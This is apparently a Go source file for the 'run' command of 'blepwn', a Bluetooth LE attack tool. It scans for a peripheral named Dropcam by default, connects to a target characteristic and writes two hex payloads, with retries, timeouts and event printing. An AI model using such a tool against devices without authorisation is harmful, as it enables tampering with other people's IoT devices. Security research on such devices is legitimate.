package main

import (
	"context"
	"errors"
	"fmt"
	"os"
	"os/signal"
	"syscall"
	"time"

	"github.com/sirupsen/logrus"
	"github.com/spf13/cobra"
	"github.com/srg/blepwn/internal/config"
	"github.com/srg/blepwn/internal/devicefactory"
	"github.com/srg/blepwn/internal/groutine"
	"github.com/srg/blepwn/internal/notify"
	"github.com/srg/blepwn/internal/session"
)

// runCmd represents the run command
var runCmd = &cobra.Command{
	Use:   "run",
	Short: "Connect to the target and write both payloads",
	Long: `Waits for the Bluetooth adapter, scans for a peripheral advertising the
target name, connects, discovers the target service and characteristic and
writes payload 1 followed by payload 2.

Examples:
  # Default target and payloads
  blepwn run

  # Custom payloads, give up after a minute
  blepwn run --payload1 3a031201AABB --payload2 3b --wait 1m

  # Machine-readable event stream
  blepwn run --json`,
	Args: cobra.NoArgs,
	RunE: runPwn,
}

var (
	runTarget          string
	runService         string
	runCharacteristic  string
	runPayload1        string
	runPayload2        string
	runConnectTimeout  time.Duration
	runDiscoverTimeout time.Duration
	runWriteTimeout    time.Duration
	runWait            time.Duration
	runAttempts        int
	runJSON            bool
	runVerbose         bool
)

func init() {
	initRunFlags()
}

func initRunFlags() {
	f := runCmd.Flags()
	f.StringVarP(&runTarget, "target", "t", "", "Advertised name of the target (default from config: Dropcam)")
	f.StringVar(&runService, "service", "", "Target service UUID")
	f.StringVar(&runCharacteristic, "char", "", "Target characteristic UUID")
	f.StringVar(&runPayload1, "payload1", "", "First payload as hex")
	f.StringVar(&runPayload2, "payload2", "", "Second payload as hex")
	f.DurationVar(&runConnectTimeout, "connect-timeout", 0, "Connection timeout")
	f.DurationVar(&runDiscoverTimeout, "discover-timeout", 0, "Service/characteristic discovery timeout")
	f.DurationVar(&runWriteTimeout, "write-timeout", 0, "Timeout of each payload write")
	f.DurationVar(&runWait, "wait", 0, "Give up if the payloads are not delivered in time (0 waits until Ctrl+C)")
	f.IntVar(&runAttempts, "attempts", 1, "Payload delivery attempts; failed writes are retried only when above 1")
	f.BoolVar(&runJSON, "json", false, "Print events as JSON lines")
	f.BoolVar(&runVerbose, "verbose", false, "Enable debug logging")
}

func applyRunFlags(cfg *config.Config) {
	if runTarget != "" {
		cfg.Target.Name = runTarget
	}
	if runService != "" {
		cfg.Target.Service = runService
	}
	if runCharacteristic != "" {
		cfg.Target.Characteristic = runCharacteristic
	}
	if runPayload1 != "" {
		cfg.Payloads.First = runPayload1
	}
	if runPayload2 != "" {
		cfg.Payloads.Second = runPayload2
	}
	if runConnectTimeout > 0 {
		cfg.Timeouts.Connect = runConnectTimeout
	}
	if runDiscoverTimeout > 0 {
		cfg.Timeouts.Discover = runDiscoverTimeout
	}
	if runWriteTimeout > 0 {
		cfg.Timeouts.Write = runWriteTimeout
	}
}

func runPwn(cmd *cobra.Command, _ []string) error {
	if runAttempts < 1 {
		return fmt.Errorf("--attempts must be at least 1, got %d", runAttempts)
	}

	cfg, err := loadConfig(cmd, applyRunFlags)
	if err != nil {
		return err
	}

	logger, err := configureLogger(cmd, "verbose", cfg.LogLevel)
	if err != nil {
		return err
	}

	// All arguments validated - don't show usage on runtime errors
	cmd.SilenceUsage = true

	transport, err := devicefactory.NewTransport(logger, cfg.Scan.ProbeInterval)
	if err != nil {
		return fmt.Errorf("failed to open BLE transport: %w", err)
	}
	defer func() {
		if err := transport.Close(); err != nil {
			logger.WithError(err).Debug("Closing BLE transport failed")
		}
	}()

	events := notify.NewChannel(0)
	recorder := notify.NewRecorder(0)
	ctrl, err := session.New(transport, notify.Multi{events, recorder}, cfg.SessionOptions(), logger)
	if err != nil {
		return err
	}

	out := cmd.OutOrStdout()
	printer := newEventPrinter(out, runJSON)
	if !runJSON && isTerminal(out) {
		printer.progress = NewProgressPrinter(out, "Waiting for "+cfg.Target.Name, "scanning")
		printer.progress.Start()
		defer printer.progress.Stop()
	}

	printed := make(chan struct{})
	groutine.Go(context.Background(), "cli-event-printer", func(context.Context) {
		defer close(printed)
		for e := range events.C() {
			if err := printer.Print(e); err != nil {
				logger.WithError(err).Debug("Printing event failed")
			}
		}
	})

	ctx, stop := signal.NotifyContext(cmd.Context(), os.Interrupt, syscall.SIGTERM)
	defer stop()
	if runWait > 0 {
		var cancel context.CancelFunc
		ctx, cancel = context.WithTimeout(ctx, runWait)
		defer cancel()
	}

	if err := ctrl.Activate(); err != nil {
		events.Close()
		<-printed
		return err
	}

	p1, p2 := cfg.DecodedPayloads()
	state, err := deliver(ctx, ctrl, p1, p2, runAttempts, logger)

	ctrl.Deactivate()
	events.Close()
	<-printed
	if printer.progress != nil {
		printer.progress.Stop()
	}

	logger.WithFields(logrus.Fields{
		"events":  recorder.Total(),
		"dropped": events.Dropped(),
	}).Debug(recorder.String())

	switch {
	case err == nil:
		if !runJSON {
			fmt.Fprintf(out, "Payloads delivered to %s (%s)\n", cfg.Target.Name, state.Peripheral)
		}
		return nil
	case errors.Is(err, context.Canceled):
		fmt.Fprintln(cmd.ErrOrStderr(), "\nInterrupted, session released")
		return err
	case errors.Is(err, context.DeadlineExceeded):
		return fmt.Errorf("%w after %s (last state: %s)", ErrWaitTimeout, runWait, state)
	default:
		return err
	}
}

// notReadyBackoff spaces out attempts while the session is Ready but its
// writes are revoked.
const notReadyBackoff = 100 * time.Millisecond

// deliver waits for the session to become Ready and sends both payloads,
// retrying failed deliveries up to attempts times. A halting fault ends it
// immediately.
func deliver(ctx context.Context, ctrl *session.Controller, p1, p2 []byte, attempts int, logger *logrus.Logger) (session.State, error) {
	var lastErr error
	for attempt := 1; attempt <= attempts; {
		state, err := ctrl.Wait(ctx, session.Ready)
		if err != nil {
			return state, err
		}

		err = ctrl.SendPayloads(ctx, p1, p2, 0)
		switch {
		case err == nil:
			return state, nil
		case ctx.Err() != nil:
			return ctrl.State(), ctx.Err()
		case errors.Is(err, session.ErrNotReady):
			select {
			case <-time.After(notReadyBackoff):
			case <-ctx.Done():
				return ctrl.State(), ctx.Err()
			}
			continue
		}

		lastErr = err
		logger.WithFields(logrus.Fields{
			"attempt": attempt,
			"error":   err,
		}).Warn("Payload delivery failed")
		attempt++
	}
	return ctrl.State(), lastErr
}
